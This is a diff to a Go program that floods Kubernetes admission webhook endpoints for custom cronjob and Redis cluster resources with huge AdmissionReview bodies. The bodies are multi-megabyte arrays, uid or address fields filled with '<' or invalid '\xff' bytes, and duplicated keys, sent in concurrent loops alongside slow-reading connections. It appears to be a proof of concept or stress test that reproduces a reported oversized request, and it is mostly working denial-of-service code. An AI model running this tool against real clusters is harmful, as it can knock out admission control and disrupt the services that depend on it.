@@ -22,9 +22,12 @@ import (
 )
 
 const (
-	around = `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1","operation":"CREATE","name":"a","namespace":"b",` +
-		`"resource":{"group":"batch.wzj.kubebuilder.io","version":"v1","resource":"mycronjobs"},"object":{"spec":{%s}}}}`
-	path = "/validate-batch-wzj-kubebuilder-io-v1-mycronjob"
+	around = `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"operation":"CREATE","name":"a","namespace":"b",%s}}`
+	job    = `"uid":"1","resource":{"group":"batch.wzj.kubebuilder.io","version":"v1","resource":"mycronjobs"},"object":`
+	redis  = `"uid":"1","resource":{"group":"bytewang123-redis.wzj.kubebuilder.io","version":"v1","resource":"redisclusters"},"object":`
+
+	validateJob = "/validate-batch-wzj-kubebuilder-io-v1-mycronjob"
+	mutateRedis = "/mutate-bytewang123-redis-wzj-kubebuilder-io-v1-rediscluster"
 
 	reported = 6_900_000 // bytes of the request that was reported
 	largest  = 3_400_000 // nearly as many as are allowed
@@ -32,23 +35,28 @@ const (
 
 // flood makes bodies.
 type flood struct {
-	list   string // %s stands for the elements
-	length int
-	slow   bool
+	path, request string // in request, %s stands for the elements
+	element       string
+	length        int // of all elements, in bytes
+	slow          bool
 }
 
 var floods = []flood{
-	{`"x":[%s]`, reported, false},
-	{`"x":[%s]`, largest, false},
-	{`"x":[%s]`, largest, true},
-	{`"jobTemplate":{"spec":{"template":{"spec":{"containers":[%s]}}}}`, largest, false},
-	{`"jobTemplate":{"spec":{"template":{"spec":{"containers":[%s]}}}}`, 14_000, false},
-	{`"jobTemplate":{"metadata":{"finalizers":[""],"managedFields":[{"fieldsV1":[%s]}]}}`, largest, false},
+	{validateJob, job + `{"spec":{"x":[%s{}]}}`, "{},", reported, false},
+	{validateJob, job + `{"spec":{"x":[%s{}]}}`, "{},", largest, false},
+	{validateJob, job + `{"spec":{"x":[%s{}]}}`, "{},", largest, true},
+	{validateJob, job + `{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[%s{}]}}}}}}`, "{},", largest, false},
+	{validateJob, job + `{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[%s{}]}}}}}}`, "{},", 14_000, false},
+	{validateJob, job + `{"spec":{"jobTemplate":{"metadata":{"managedFields":[{"fieldsV1":[%s{}]}]}}}}`, "{},", largest, false},
+	{validateJob, `"uid":"%s"`, "<", largest, false},
+	{mutateRedis, redis + `{"spec":{"addr":"%s"},"spec":null}`, "<", largest, false},
+	{mutateRedis, redis + `{"spec":{"addr":"%s"}}`, "\xff", largest, false},
+	{mutateRedis, redis + `{"spec":{"addr":"%s"}}`, "<", largest, false},
 }
 
 func (f flood) body() []byte {
-	elements := strings.Repeat("{},", f.length/3)
-	return []byte(strings.Replace(around, "%s", strings.Replace(f.list, "%s", strings.TrimSuffix(elements, ","), 1), 1))
+	elements := strings.Repeat(f.element, f.length/len(f.element))
+	return []byte(strings.Replace(around, "%s", strings.Replace(f.request, "%s", elements, 1), 1))
 }
 
 // slowly reads a body so that it takes longer than anyone waits.
@@ -81,7 +89,7 @@ func main() {
 		body := f.body()
 		attack.Go(func() {
 			for ctx.Err() == nil {
-				count(fmt.Sprintf("flood %d: %s", n%len(floods), f.ask(ctx, client, "https://"+*target+path, body)))
+				count(fmt.Sprintf("flood %d: %s", n%len(floods), f.ask(ctx, client, "https://"+*target+f.path, body)))
 			}
 		})
 		attack.Go(func() {
